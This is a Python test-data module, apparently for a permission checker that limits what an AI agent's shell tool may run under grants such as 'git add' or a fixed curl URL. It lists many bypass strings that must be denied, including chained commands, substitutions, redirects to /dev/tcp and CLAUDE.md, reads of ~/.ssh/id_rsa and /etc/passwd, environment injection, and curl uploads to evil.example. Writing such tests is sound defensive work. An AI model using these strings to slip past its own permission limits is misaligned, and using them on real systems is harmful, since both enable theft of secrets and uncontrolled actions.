"""Attempts to do more than a grant says, composed: every granted command with everything an attacker puts around it.

`attempts()` must all be denied; `honest()` is what people write with the same grants, and must pass.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Iterator

    from whet.values import Json


class Attempt(NamedTuple):
    """One call of the shell tool under one grant."""

    grant: str
    given: Json


GRANTED = {
    "Bash(git add:*)": "git add src/app.py",
    "Bash(npm run test:*)": "npm run test -- unit",
    "Bash(python scripts/x.py:*)": "python scripts/x.py --fast",
    "Bash(ls:*)": "ls -la src",
    "Bash(git diff:*)": "git diff HEAD~1",
    "Bash(find:*)": "find . -name '*.py'",
    "Bash(curl https://api.example.com/:*)": "curl https://api.example.com/v1 -s",
}
_BEHIND = (
    # another command
    *(";touch m", " ; touch m", " && touch m", "&&touch m", " || touch m", " | sh", "|sh", " |& sh", " & touch m"),
    *("&touch m", "\ntouch m", "\n\n touch m", "\r\ntouch m", "\rtouch m", ";\\\ntouch m", " \\\n&& touch m"),
    *(
        " # all\ntouch m",
        " #\ntouch m",
        " # a;\\\ntouch m",
        " # a; touch m",
        " # $(touch m)",
        " # --edit",
        " #`touch m`",
    ),
    *(" # it's\ntouch m'", " ;; touch m", "; (touch m)", "; { touch m; }", "; ! touch m", "; if touch m; then :; fi"),
    *(" | tee m", " | xargs rm", "; eval touch m", "; . ./x", "; source x", "; exec touch m", "; cd / && touch m"),
    *("; trap 'touch m' EXIT", "; alias ls=touch", "; ls() { touch m; }", "; export PATH=.", "; PATH=. ls", "; set -x"),
    # substitutions and expansions
    *(" $(touch m)", " `touch m`", ' "$(touch m)"', ' "`touch m`"', " ${x:-$(touch m)}", " ${x}", " $x", ' "$x"'),
    *(" $((a[$(touch m)]))", " $[1]", " <(touch m)", " >(touch m)", " {a,b}", " {1..3}", ' $"x"', " ~root/x", " ~+"),
    *(" !x", " =ls", " *", " -*", " [a-z]*", " ''*", " ?x", ' "${x@P}"', " $@", " $'a\\'b'", " $'\\'; touch m; : \\''"),
    *(" $'\\x0a'", " $'\\u0041'", " $'\\c'x'", " $'a' $'\\' ;touch m #'", " a$'\\'b'"),
    # redirections
    *(" > m", " >> m", " >| m", " 2> m", " &> m", " >& m", " 3> m", " <> m", " < /etc/passwd", " <<< x", " <<E\nx\nE"),
    *(" >m 2>&1", " > ~/.bashrc", " > /dev/tcp/203.0.113.7/80", " >&3", " 2>&-", " >$m", " > CLAUDE.md"),
    # letters that only look like blanks or ends of lines
    *(
        "\u2028touch m",
        "\u2029touch m",
        "\x0btouch m",
        "\x0ctouch m",
        "\x85touch m",
        "\x00touch m",
        " \u202ea",
        " \u200ba",
    ),
    *("'", '"', " \\", " $'a", ' "a', "\\", " 'a\\' b'"),
)
_BEFORE = (
    *("PATH=. ", "LD_PRELOAD=./x.so ", "IFS=/ ", "BASH_ENV=x ", "ENV=x ", "GIT_PAGER=x ", "GIT_EDITOR=x ", "EDITOR=x "),
    *(
        "GIT_DIR=x ",
        "GIT_CONFIG_COUNT=1 ",
        "GIT_EXTERNAL_DIFF=x ",
        "GIT_SSH_COMMAND=x ",
        "PYTHONPATH=. ",
        "PYTHONSTARTUP=x ",
    ),
    *("NODE_OPTIONS=--require=./x ", "npm_config_script_shell=./x ", "CURL_HOME=. ", "https_proxy=x ", "LC_ALL=$(x) "),
    *("HOME=. ", "LANG=C PATH=. ", "x=1; ", "export X=1; ", "> m ", "2> m ", "< x "),
    *(
        "sudo ",
        "doas ",
        "env ",
        "env -i ",
        "env -S ",
        "nohup ",
        "setsid ",
        "xargs ",
        "busybox ",
        "exec ",
        "eval ",
        "builtin ",
    ),
    *(
        "watch ",
        "strace ",
        "chroot . ",
        "flock x ",
        "ionice ",
        "time -o m ",
        "nice -n $(x) ",
        "timeout $(x) ",
        "stdbuf -o $x ",
    ),
    *(
        "command eval ",
        "timeout 5 nohup ",
        "nice nohup ",
        "unshare ",
        "script -c ",
        "parallel ",
        "! ",
        "( ",
        "{ ",
        "coproc ",
    ),
    *("./", "/tmp/", "../", "~/", "touch m;", "touch m && ", "touch m | ", "$(x) ", "$x ", "`x` ", "[ ", "[[ "),
    *(
        "\u00a0",
        "\ufeff",
        "\u200b",
        "-",
        "\\\n;",
        "#\n",
        ":;",
        "if ",
        "while ",
        "for x in 1; do ",
        "function f ",
        "f() ",
    ),
)
_BETWEEN = (
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u1680",
    "\u202f",
    "\x0b",
    "\x0c",
    "\r",
    "\n",
    ";",
    "|",
    "&",
    "$IFS",
    "${IFS}",
    "\\\n",
)
"""What stands where the first blank was."""
_KEYS: tuple[Json, ...] = (
    *({"shell": "/tmp/x"}, {"shell": True}, {"executable": "/tmp/x"}, {"args": ["x"]}, {"stdin": "x"}, {"input": "x"}),
    *(
        {"sudo": True},
        {"user": "root"},
        {"env": {"PATH": "."}},
        {"environment": ["A=b"]},
        {"env_file": "x"},
        {"cwd": "/"},
    ),
    *({"preexec": "x"}, {"before": "x"}, {"host": "203.0.113.7"}, {"container": "x"}, {"interpreter": "perl"}),
    *({"cmd": "x"}, {"script": "x"}, {"workdir": "../.."}, {"Shell": "x"}, {"is_input": True}, {"rc_file": "x"}),
)
_OPTIONS = {
    "git add": (
        *(
            "--e",
            "--ed",
            "--edi",
            "--edit",
            "-e",
            "-ve",
            "-fe",
            "--i",
            "--inter",
            "--interactive",
            "-i",
            "-vi",
            "-p",
            "-vp",
        ),
        *("--p", "--patch", "--pat", "--pathspec-from-file=/etc/passwd", "--pathspec-from-file /etc/passwd"),
        *(
            "--pathspec-from-file=-",
            "--paths=x",
            "--pathspec-from=x",
            "--pathspec-f x --pathspec-file-nul",
            "a --e",
            "-- a;b",
        ),
        *(
            "'--edit'",
            '"--edit"',
            "--ed''it",
            "-\\e",
            "$'--edit'",
            "-'e'",
            "--'e'",
            "~/.ssh/id_rsa",
            "~/.aws/credentials",
        ),
    ),
    "git": (
        *("-c core.pager=x add a", "-c core.pager=x diff", "-ccore.pager=x diff", "-C / add a", "--git-dir=x add a"),
        *("--work-tree=/ add a", "--exec-path=. add a", "--config-env=core.pager=X diff", "-p diff", "--paginate diff"),
        *("--no-pager add a", "zap", "difftool", "commit -m x", "stage a", "add-x", "addx", "diff-files", "Add a"),
    ),
    "git diff": (
        *("--output=m", "--output m", "--outp=m", "--o=m", "--ext-diff", "--ext", "--e", "--no-index a /etc/passwd"),
        *(
            "--no-ind a b",
            "--pathspec-from-file=x",
            "--exec-path=x",
            "HEAD --output=m",
            "-- --output=m",
            "~/.ssh/id_rsa",
        ),
    ),
    "npm run": (
        *(
            "test --script-shell=./x",
            "test --script-shell ./x",
            "test --scr=./x",
            "test -script-shell=./x",
            "test --prefix /x",
        ),
        *("test --pre=/x", "test -C /x", "test --userconfig x", "test --node-options=--require=./x", "test --node-o=x"),
        *(
            "test --globalconfig=x",
            "test -prefix=/x",
            "test --shell x",
            "build",
            "test:unit",
            "testx",
            "test -c 'x'",
            "Test",
        ),
    ),
    "npm": ("--prefix x run test", "exec x", "install x", "-c x run test", "run-script test2", "explore x -- y"),
    "python": (
        *(
            "-c x",
            "-m x",
            "-i scripts/x.py",
            "-W error scripts/x.py",
            "-X importtime scripts/x.py",
            "scripts/x.pyc",
            "-",
        ),
        *(
            "scripts/../scripts/x.py",
            "scripts/y.py",
            "scripts//x.py",
            "Scripts/x.py",
            "/scripts/x.py",
            "scripts/x.py/../y.py",
        ),
    ),
    "ls": ("~/.ssh/id_rsa", "~/.aws/credentials", "~root", "$HOME", "-la;id", "`id`"),
    "find": (
        *(". -exec touch m ';'", ". -exec touch m \\;", ". -exec touch m {} +", ". -execdir x ';'", ". -ok x ';'"),
        *(". -okdir x ';'", ". -delete", ". -fprint m", ". -fprint0 m", ". -fprintf m x", ". -fls m", "-files0-from x"),
        *(". '-exec' touch m ';'", ". -ex'ec' touch m ';'", ". -\\exec x ';'", ". -name *.py", "~/.ssh/id_rsa -name x"),
    ),
    "curl": (
        *("https://evil.example/", "-s https://evil.example/", "https://api.example.com.evil.example/"),
        *(
            "https://api.example.com",
            "http://api.example.com/",
            "https://api.example.com@evil.example/",
            "file:///etc/passwd",
        ),
        *("https://evil.example/ https://api.example.com/", "--url https://evil.example"),
    ),
    "curl https://api.example.com/": (
        *(
            "https://evil.example/",
            "evil.example",
            "-s evil.example",
            "--url https://evil.example",
            "--next evil.example",
        ),
        *(
            "-o m",
            "-so m",
            "-O",
            "--output m",
            "--outp m",
            "--o m",
            "-K x",
            "--config x",
            "-T x",
            "--upload-file x",
            "-c m",
        ),
        *(
            "-D m",
            "--dump-header m",
            "-x evil.example",
            "--proxy x",
            "--socks5 x",
            "--doh-url x",
            "--connect-to ::evil.example",
        ),
        *(
            "--resolve a:1:b",
            "-d @/etc/passwd",
            "-d@/etc/passwd",
            "--data @x",
            "--data-binary @x",
            "-F a=@x",
            "-F a=<x",
        ),
        *(
            "-H @x",
            "-H@x",
            "--json @x",
            "-b x",
            "--cookie x",
            "--data-urlencode a@x",
            "-w '%output{m}'",
            "-w @x",
            "--trace m",
        ),
        *(
            "--stderr m",
            "--libcurl m",
            "--netrc-file x",
            "-n",
            "-k",
            "--insecure",
            "-E x",
            "--cert x",
            "--key x",
            "--hsts m",
        ),
        *("--unix-socket x", "--engine x", "-Q x", "--location-trusted", "--create-dirs", "-sS -- evil.example"),
    ),
}


def attempts() -> Iterator[Attempt]:
    """Every attempt."""
    for grant, command in GRANTED.items():
        words = command.split(" ")
        texts = [command + piece for piece in _BEHIND] + [piece + command for piece in _BEFORE]
        texts += [words[0] + piece + " ".join(words[1:]) for piece in _BETWEEN]
        for text in texts:
            yield Attempt(grant, {"command": text})
        for given in _KEYS:
            yield Attempt(grant, {"command": command, **given})
        for start, endings in _OPTIONS.items():
            if grant.removeprefix("Bash(").startswith(start):
                for ending in endings:
                    yield Attempt(grant, {"command": f"{start} {ending}"})


def honest() -> Iterator[Attempt]:
    """What people write."""
    for grant, command in GRANTED.items():
        words = command.split(" ")
        for text in (
            *(command, f"{command} # all of it", f"{command}  # see docs/x.md, part 2\n", f"{command} #"),
            *(" \\\n  ".join(words), f"{command} && {command}", f"LC_ALL=C {command}", f"timeout 60 {command} 2>&1"),
            *(f"{command} \\\n  'a b'" if "curl" not in grant else f"{command} \\\n  -S", f"{command} 2>/dev/null"),
        ):
            yield Attempt(grant, {"command": text})
        yield Attempt(grant, {"command": command, "description": "x", "timeout": 5, "stdin": "", "sudo": False})
    for text in (
        *(
            "git add '*.py'",
            'git add "*.py"',
            "git add '*'",
            "git add \\*.py",
            "git add -- '**/x.py' ':!y'",
            "git add -A .",
        ),
        *("git add --all", "git add --intent-to-add a", "git add -v -n a", "git add --update", "git add --force a b"),
        *(
            "git add $'a b'",
            "git add a/*.py",
            "git add --chmod=+x a",
            "git add 'it'\\''s'",
            "git add \\\n  a \\\n  b # both",
        ),
    ):
        yield Attempt("Bash(git add:*)", {"command": text})
    for text in ("git diff -p", "git diff --stat -- '*.py'", "git diff --patch HEAD", "git diff --no-color --cached"):
        yield Attempt("Bash(git diff:*)", {"command": text})
    for text in (
        "-X POST -d a=b",
        "-H 'A: b' --json '{}'",
        "-L --cookie a=b",
        "--max-time 5 -sS",
        "https://api.example.com/b",
    ):
        yield Attempt("Bash(curl https://api.example.com/:*)", {"command": f"curl https://api.example.com/a {text}"})
